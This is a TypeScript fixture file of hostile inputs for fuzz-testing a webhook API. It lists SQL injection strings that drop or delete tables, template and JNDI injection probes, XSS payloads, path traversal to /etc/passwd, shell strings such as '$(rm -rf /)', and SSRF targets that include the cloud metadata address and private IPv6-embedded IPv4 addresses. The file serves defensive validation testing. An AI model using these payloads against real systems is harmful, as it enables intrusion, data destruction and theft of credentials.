/**
 * Hostile values for the fuzz test. Lists named `*_BAD` hold values that are
 * invalid wherever the generator puts them; the others are noise that rides
 * along with some other invalidating element.
 */

/** Injection payloads: SQL, templates, JNDI, HTML, paths, shells, header splitting. */
export const INJECTIONS = [
  "'; DROP TABLE webhooks; --",
  "' OR '1'='1",
  '1; SELECT pg_sleep(10)--',
  "'); DELETE FROM tenants; --",
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '${jndi:ldap://x.example/a}',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '$(rm -rf /)',
  '`id`',
  '| cat /etc/passwd',
  '{"$gt": ""}',
  'a\r\nX-Injected: 1',
  'http://169.254.169.254/latest/meta-data/',
  '\\x00\\u0000%00',
];

/** Unicode that has tripped parsers and databases. Lone surrogates survive JSON.stringify as "\ud800". */
export const UNICODE = [
  '\u202egnp.exe',
  'مرحبا بالعالم',
  'שלום',
  '🎉🔥💩',
  '👨‍👩‍👧‍👦',
  'Z̴̧̡̛a̷̢̛l̸̨̛g̶̡̛o̵̢̕',
  'e\u0301\u0302\u0303\u0304\u0305',
  '\u200b\u200c\u200d',
  '\ufeffbom',
  '\ud800',
  '\udfff',
  'a\ud800b',
  '\udbff\udfff',
  'ﬀﬁﬂ',
  'ｆｕｌｌｗｉｄｔｈ',
  '\u0001\u001f\u007f',
  'line\nbreak\ttab',
  '\u2028\u2029',
  '𝕳𝖔𝖔𝖐',
  '١٢٣٤',
];

export const NOISE = [...INJECTIONS, ...UNICODE];

/**
 * Path-id segments that are not UUIDs, already percent-encoded where needed.
 * Raw forms (a bare "%", "%zz", "%00", "..") reach the router as written.
 */
export const ID_SEGMENTS_BAD: readonly string[] = [
  '1',
  '0',
  '-1',
  '9999999999999999999999',
  'null',
  'undefined',
  'true',
  'NaN',
  '..',
  '.',
  '%00',
  '%',
  '%zz',
  '%E0%A4%A',
  '%ED%A0%80',
  '%C0%AF',
  '%0A',
  '%20',
  '%2F..%2F..%2Fetc%2Fpasswd',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '..%5C..%5Cwindows',
  '550e8400-e29b-41d4-a716-44665544000',
  '550e8400-e29b-41d4-a716-4466554400000',
  '550e8400e29b41d4a716446655440000',
  '%7B550e8400-e29b-41d4-a716-446655440000%7D',
  '550e8400-e29b-41d4-a716-44665544000g',
  '550e8400-e29b-41d4-a716-446655440000%00',
  '550e8400-e29b-41d4-a716-446655440000%0A',
  '%20550e8400-e29b-41d4-a716-446655440000',
  '550e8400-e29b-41d4-a716_446655440000',
  'urn:uuid:550e8400-e29b-41d4-a716-446655440000',
  '%EF%BC%95%EF%BC%95%EF%BC%90', // full-width digits
  ...INJECTIONS.map(encodeURIComponent),
  ...UNICODE.filter(isWellFormed).map(encodeURIComponent),
];

/** UUID-shaped ids that exist nowhere: 404, not 400. */
export const UNKNOWN_UUIDS = [
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '550E8400-E29B-41D4-A716-446655440000',
  '550e8400-e29b-91d4-a716-446655440000',
];

/** Not UUIDs, as plain strings (body fields and query filters). */
export const UUID_STRINGS_BAD = [
  '',
  ' ',
  '1',
  'null',
  '550e8400-e29b-41d4-a716-44665544000',
  '550e8400e29b41d4a716446655440000',
  '{550e8400-e29b-41d4-a716-446655440000}',
  '550e8400-e29b-41d4-a716-446655440000 ',
  ' 550e8400-e29b-41d4-a716-446655440000',
  '550e8400-e29b-41d4-a716-446655440000\n',
  '550e8400-e29b-91d4-a716-446655440000',
  'zzzzzzzz-zzzz-4zzz-8zzz-zzzzzzzzzzzz',
  '５５０e8400-e29b-41d4-a716-446655440000',
  ...NOISE,
];

/** Names (webhook, user, tenant, key): trimmed, 1-200 characters. */
export const NAME_BAD = ['', ' ', '\t\r\n ', '\ufeff', '\u00a0\u2003\u3000', 'x'.repeat(201), 'é'.repeat(201), '🎉'.repeat(201), 'e\u0301'.repeat(101)];

export const URL_BAD = [
  '',
  'not a url',
  'example.com/hooks',
  '//example.com/hooks',
  '/hooks',
  'ftp://example.com/hooks',
  'file:///etc/passwd',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'gopher://example.com:6379/_INFO',
  'ws://example.com/socket',
  'https://user:pass@example.com/hooks',
  'https://:pass@example.com/hooks',
  'https://user@example.com/hooks',
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  'https://exa mple.com/',
  'https://<script>.example/',
  'http://',
  'https://[::1',
  'https://example.com:99999/',
  `https://${'a'.repeat(2100)}.com/`,
  `https://example.com/${'a'.repeat(2100)}`,
  'http://169.254.169.254/latest/meta-data/',
  'http://10.0.0.1/hooks',
  'http://192.168.1.1/hooks',
  'http://100.64.0.1/hooks',
  'http://0.0.0.0/hooks',
  'http://224.0.0.1/hooks',
  'http://[fd00::1]/hooks',
  'http://[::ffff:169.254.169.254]/',
  'http://2852039166/',
  'http://0xa9fea9fe/',
];

export const EVENT_TYPE_PATTERN = /^[A-Za-z0-9._-]{1,128}$/;

export const EVENT_TYPE_BAD = [
  '',
  ' ',
  'order created',
  'order.created\n',
  ' order.created',
  '*',
  '**',
  'order/created',
  'order:created',
  'x'.repeat(129),
  ...NOISE.filter((s) => !EVENT_TYPE_PATTERN.test(s)),
];

/** Profiles that do not exist, or are spelled another way; each must be a 422 that lists the names. */
export const PROFILE_BAD = ['', 'Asset', 'assets', 'Custom', 'bespoke', 'STANDARD', 'AssetsUp', 'assets_server', ' argyle', 'standard ', ...NOISE];
export const SIGNATURE_BAD = ['', 'STANDARD', 'Standard', ' standard', 'ed25519 ', 'none', 'hmac-md5', 'rsa-sha256', 'hmac_sha256', ...NOISE];

export const DATE_BAD = [
  '',
  ' 2026-01-01',
  '2026-13-01',
  '2026-02-30',
  '2026-00-10',
  '2026-1-1',
  '2026/01/01',
  '01/31/2026',
  '31.01.2026',
  '+002026-01-01',
  '2026-01-01T25:00:00Z',
  '2026-01-01T24:00:00Z',
  '2026-01-01T00:00:00',
  '2026-01-01T00Z',
  '2026-01-01T00:00:00+0200',
  '2026-01-01T00:00:00-99:00',
  '2026-01-01t00:00:00z',
  'yesterday',
  'now',
  '1700000000',
  '٢٠٢٦-٠١-٠١',
  ...NOISE,
];

export const CLIENT_ID_BAD = ['', ' ', 'has space', 'client/1', 'client:1', 'x'.repeat(65), ...NOISE.filter((s) => !/^[A-Za-z0-9._-]{1,64}$/.test(s))];

export const PROVIDER_BAD = ['', 'plaid', 'DEMO', 'Demo', ' demo', 'demo ', 'demo\n', ...NOISE];

export const OUTCOME_BAD = ['', 'fail', 'SUCCESS', 'success ', 'LoginFailed', 'Error', ...NOISE];

export const CONTENT_TYPES_BAD = [
  'text/plain',
  'text/html',
  'text/json',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=----fuzz',
  'application/xml',
  'application/jsonx',
  'application/octet-stream',
  'application/javascript',
  'image/png',
  'json',
  '*/*',
  'application/*',
  "application/json'; DROP TABLE webhooks; --",
  'application/json\u00ff',
];

/** Request bodies that are not JSON. */
export const MALFORMED_JSON = [
  '{',
  '}',
  '[',
  '{"name":}',
  "{'name':'x'}",
  '{"name":"x",}',
  '[1,2,]',
  '{"name":"x"',
  '{"name":"x"}}',
  '{"name":"x"}{"url":"y"}',
  '{"a":1,,"b":2}',
  '{:1}',
  '{"a" 1}',
  '{"a":01}',
  '{"a":1e}',
  '{"a":.5}',
  '{"a":"\\x41"}',
  '{"a":"\\u12"}',
  '{"a":"\\ud800\\u"}',
  '{"a":"unterminated',
  '{"a":"tab\there"}',
  '{"a":"line\nbreak"}',
  '{a:1}',
  'NaN',
  'Infinity',
  '-',
  'undefined',
  'nul',
  'tru',
  '/* comment */ {}',
  '{} // comment',
  '｛｝',
  '   ',
  '\ufeff\ufeff{}',
  '<?xml version="1.0"?><webhook/>',
  'name=x&url=https%3A%2F%2Fexample.com',
  '{"name": "x", "url": "https://example.com", "events": ["*"]',
  '['.repeat(40),
  `{"a":${'['.repeat(20)}`,
];

/** JSON texts that parse, but to something other than an object. */
export const NON_OBJECT_JSON = ['[]', '[{}]', '[null]', '0', '-1', '1e999', '3.14', '"string"', '""', 'null', 'true', 'false', '[[[]]]'];

/** Byte sequences that are not UTF-8, placed inside a JSON string. */
export const BAD_UTF8 = [[0xff], [0xfe, 0xff], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xe2, 0x82], [0xf8, 0x88, 0x80, 0x80, 0x80], [0x80]];

/** Keys that are not in any request schema. */
export const UNKNOWN_KEYS = [
  'unknown',
  'id',
  'tenant_id',
  'secret',
  'status',
  'created_at',
  'is_admin',
  'NAME',
  'Name',
  'name ',
  ' name',
  'ｎａｍｅ',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '',
  'k'.repeat(1000),
  '$where',
  '$gt',
  '\u202e',
  '🎉',
  '\ud800',
  ...INJECTIONS,
];

export const JUNK_QUERY_KEYS = ['foo', 'LIMIT', 'limit[]', 'limit[$gt]', 'q', '__proto__', 'constructor', 'where', '', "1' OR '1'='1", '🎉', 'x'.repeat(500)];

export const LIMIT_BAD = ['0', '201', '-1', '1.5', 'ten', '', ' ', 'NaN', 'Infinity', '-Infinity', '1e3', '0x', '١٠', '99999999999999999999', '10abc', ...INJECTIONS];

export const ORDERING_BAD = ['', 'name', 'CREATED_AT', '-id', 'id ', '+created_at', '--created_at', 'created_at; DROP TABLE webhooks', ...NOISE];

export const STATUS_BAD = ['', 'FAILED', 'Failed', 'done', 'pending ', 'pending,failed', 'succeeded\n', ...NOISE];

export function isWellFormed(s: string): boolean {
  try {
    encodeURIComponent(s);
    return true;
  } catch {
    return false;
  }
}

// ---------------------------------------------------------------- IPv6 hosts carrying a private IPv4 address

/**
 * Webhook URLs whose IPv6 host embeds a private IPv4 address, in every standard embedding
 * (src/security/target-policy.ts, embeddedIpv4), and the local-use NAT64 range refused whole. None
 * embeds loopback: the test engine lets 127.0.0.0/8 through, embedded or not.
 * They join URL_BAD, so every fuzzed URL field may get one.
 */
export const URL_EMBEDDED_IPV4_BAD = [
  'http://[::10.0.0.1]/hooks',
  'http://[::a9fe:a9fe]/latest/meta-data/',
  'http://[::ffff:0:10.0.0.1]/hooks',
  'http://[::ffff:0:a9fe:a9fe]/latest/meta-data/',
  'http://[0:0:0:0:0:ffff:192.168.1.1]/hooks',
  'http://[64:ff9b::a9fe:a9fe]/latest/meta-data/',
  'http://[64:ff9b:1::a00:1]/hooks',
  'http://[64:ff9b:1::808:808]/hooks',
  'http://[2002:a00:1::]/hooks',
  'http://[2002:a9fe:a9fe::1]/',
  'http://[2002:c0a8:101:5::1234]/hooks',
  'http://[2001:0:5db8:2201::f5ff:fffe]/hooks',
  'http://[2001:0:a00:1::f7f7:f7f7]/hooks',
  'https://[::ffff:0:a00:1]:8443/hooks',
];
URL_BAD.push(...URL_EMBEDDED_IPV4_BAD);

// ---------------------------------------------------------------- hostile receiver answers

/** Bodies a receiver may answer with that are not clean UTF-8 text, as raw bytes. */
export const ANSWER_BODIES_HOSTILE: ReadonlyArray<readonly [string, Buffer]> = [
  ['NUL bytes', Buffer.from('ok\u0000\u0000nul', 'latin1')],
  ['only NULs', Buffer.alloc(64)],
  ['a NUL in JSON', Buffer.from('{"ok":"\u0000"}', 'latin1')],
  ['an escaped NUL in JSON', Buffer.from('{"ok":"\\u0000"}')],
  ...BAD_UTF8.map((bytes) => [`not UTF-8: ${Buffer.from(bytes).toString('hex')}`, Buffer.from([0x6f, 0x6b, ...bytes, 0x21])] as const),
  ['latin-1 text', Buffer.from('caf\u00e9 cr\u00e8me', 'latin1')],
  ['UTF-16 with a BOM', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('ok\u0000', 'utf16le')])],
  ['the start of a PNG', Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex')],
  ['a gzip stream of {"ok":true}', Buffer.from('1f8b0800000000000003ab56cacf56b22a292a4dad0500905fd4a70b000000', 'hex')],
  ['control bytes', Buffer.from([0x01, 0x02, 0x1b, 0x7f, 0x08, 0x0b, 0x0c])],
  ['past the limit, a NUL at the cut', Buffer.concat([Buffer.alloc(4095, 0x61), Buffer.from([0x00, 0xc3, 0xa9]), Buffer.alloc(100, 0x62)])],
  ['past the limit, a character split at the cut', Buffer.concat([Buffer.alloc(4095, 0x61), Buffer.from('é🎉'), Buffer.alloc(100, 0)])],
  ['binary past the limit', Buffer.alloc(10_000, 0xab)],
];

/** Content-Type headers sent with them (undefined: none). */
export const ANSWER_CONTENT_TYPES: ReadonlyArray<string | undefined> = [
  undefined,
  'text/plain',
  'text/plain; charset=utf-8',
  'application/json',
  'application/problem+json; charset=UTF-8',
  'text/html; charset=iso-8859-1',
  'text/plain; charset=utf-16',
  'text/plain; charset="klingon"',
  'text/plain; charset=',
  'image/png',
  'application/octet-stream',
  'application/x-protobuf',
  'multipart/mixed; boundary=x',
  'not a type',
  '/',
];

/** Content-Encoding headers sent with them (undefined: none); none of these bodies is really encoded so. */
export const ANSWER_CONTENT_ENCODINGS: ReadonlyArray<string | undefined> = [undefined, undefined, undefined, 'gzip', 'br', 'deflate', 'zstd', 'identity', 'gzip, br', 'x-unknown'];
